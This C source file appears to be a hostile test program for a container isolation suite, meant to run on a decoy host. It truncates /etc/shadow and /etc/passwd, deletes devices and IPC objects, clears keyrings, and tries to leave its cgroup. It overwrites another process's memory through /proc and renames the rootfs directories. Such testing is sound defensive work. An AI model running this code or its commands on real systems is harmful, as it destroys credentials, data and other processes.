// vandal: destroys, on the decoy host, what the host would look for (canaries, segment, queue, loopback link, victim, keys,
// mounts, set-user-ID copies, disk), leaves its group, and is no container at all.
#include "hostile.h"

static int victim(void) {
    DIR *proc = opendir("/proc");
    int found = 0;
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
        int pid = atoi(entry->d_name);
        char path[64], line[4096];
        if (pid < 2) continue;
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        ssize_t n = slurp(path, line, sizeof line);
        if (n > 0 && memmem(line, n, "victim", 6)) found = pid;
    }
    if (proc) closedir(proc);
    return found;
}

static void overwrite(int pid) {
    char path[64], stat[4096] = "", zero[64] = {0};
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDWR | O_CLOEXEC);
    pwrite(mem, zero, sizeof zero, 0x10000000);
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    slurp(path, stat, sizeof stat - 1);
    // Fields 50 and 51 are where the environment is (proc_pid_stat(5)).
    unsigned long long field[60];
    int n = 0;
    char *rest = strrchr(stat, ')');
    for (char *word = rest ? strtok(rest + 2, " ") : NULL; word && n < 60; word = strtok(NULL, " ")) field[n++] = strtoull(word, NULL, 10);
    if (n > 48)
        for (unsigned long long at = field[47]; at < field[48]; at += sizeof zero) {
            size_t length = field[48] - at < sizeof zero ? field[48] - at : sizeof zero;
            pwrite(mem, zero, length, at);
        }
    close(mem);
    kill(pid, SIGSTOP);
}

int main(int argc, char **argv) {
    (void)argc;
    char path[PATH_MAX];
    const char *root = argv[1], *dash = strrchr(argv[2], '-'), *name = dash ? dash + 1 : argv[2];
    sethostname("x", 1);
    const char *files[] = {"/canary", "/canary.open", "/srv/victim-file", "/srv/victim", "/etc/shadow", "/etc/passwd", "/etc/hostname"};
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) truncate(files[i], 0);
    shmctl(shmget(0x0dec0de0, 0, 0), IPC_RMID, 0);
    mq_unlink("/decoy");
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct ifreq lo = {0};
    strcpy(lo.ifr_name, "lo");
    ioctl(s, SIOCSIFFLAGS, &lo);
    close(s);
    for (int keyring = -5; keyring < 0; keyring++) syscall(SYS_keyctl, 7 /* KEYCTL_CLEAR */, keyring);
    umount2("/mnt", MNT_DETACH);
    const char *copies[] = {"%s/setuid-%s", "%s/data/setuid-%s", "%s/node-%s"};
    for (int i = 0; i < 3; i++) {
        snprintf(path, sizeof path, copies[i], root, name);
        unlink(path);
    }
    snprintf(path, sizeof path, "%s/dev/sda", root);
    unlink(path);
    unlink("/dev/sda");
    const char *tops[] = {"/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/cpu", "/sys/fs/cgroup/cpu,cpuacct", "/sys/fs/cgroup"};
    for (size_t i = 0; i < sizeof tops / sizeof *tops; i++) {
        put(tops[i], "cgroup.procs", "0");
        put(tops[i], "../cgroup.procs", "0");
    }
    int it = victim();
    if (it) overwrite(it);
    unsetenv("DECOY_TOKEN");
    close(77);
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    // Its own directory, and all that it finds beside the rootfs.
    unlink(argv[0]);
    if (background()) {
        chdir(root);
        const char *all[] = {"bin", "lib", "lib64", "usr", "etc", "tmp", "data"};
        for (size_t i = 0; i < sizeof all / sizeof *all; i++) {
            char moved[64];
            snprintf(moved, sizeof moved, "red-%s", all[i]);
            usleep(200000);
            rename(all[i], moved);
        }
        _exit(0);
    }
    return lab0(argv);
}
